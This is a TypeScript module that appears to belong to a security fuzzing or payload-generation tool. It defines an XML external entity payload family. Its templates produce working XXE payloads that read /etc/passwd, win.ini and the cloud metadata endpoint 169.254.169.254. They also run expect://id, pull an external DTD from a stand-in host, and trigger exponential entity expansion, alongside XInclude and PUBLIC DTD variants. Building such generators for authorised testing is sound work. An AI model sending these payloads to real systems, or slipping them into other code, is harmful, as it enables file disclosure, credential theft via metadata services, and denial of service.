import type { Random } from '../../random.js';
import type { PayloadFamily } from '../payload-family.js';

const RESOURCES = [
  'file:///etc/passwd',
  'file:///c:/windows/win.ini',
  'http://169.254.169.254/latest/meta-data/',
  'expect://id',
  'php://filter/convert.base64-encode/resource=index.php',
];

const names = (r: Random) => ({
  root: r.pick(['data', 'order', 'foo', 'request']),
  e: r.word(4).replace(/^\d/, 'x'),
});
const PROLOG = '<?xml version="1.0" encoding="UTF-8"?>';

/** XML external entities: SYSTEM and parameter entities, entity expansion, XInclude. */
export const XXE: PayloadFamily = {
  name: 'xxe',
  summary: 'XML external entities: SYSTEM and parameter entities, entity expansion, XInclude',
  templates: [
    (r) => {
      const { root, e } = names(r);
      return `${PROLOG}<!DOCTYPE ${root} [<!ENTITY ${e} SYSTEM "${r.pick(RESOURCES)}">]><${root}>&${e};</${root}>`;
    },
    (r) => {
      const { root, e } = names(r);
      return `${PROLOG}<!DOCTYPE ${root} [<!ENTITY % ${e} SYSTEM "http://x.example/${r.word(6)}.dtd"> %${e};]><${root}/>`;
    },
    (r) => {
      const { root } = names(r);
      const w = r.word(3);
      return `${PROLOG}<!DOCTYPE ${root} [<!ENTITY a "${w}"><!ENTITY b "&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;">]><${root}>&c;</${root}>`;
    },
    (r) => {
      const { root } = names(r);
      return `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${r.pick(RESOURCES)}"/></${root}>`;
    },
    (r) => {
      const { root } = names(r);
      return `${PROLOG}<!DOCTYPE ${root} PUBLIC "-//${r.word(4)}//EN" "${r.pick(RESOURCES)}"><${root}/>`;
    },
  ],
  points: ['xml', 'query', 'form'],
  encodings: ['plain', 'url'],
};
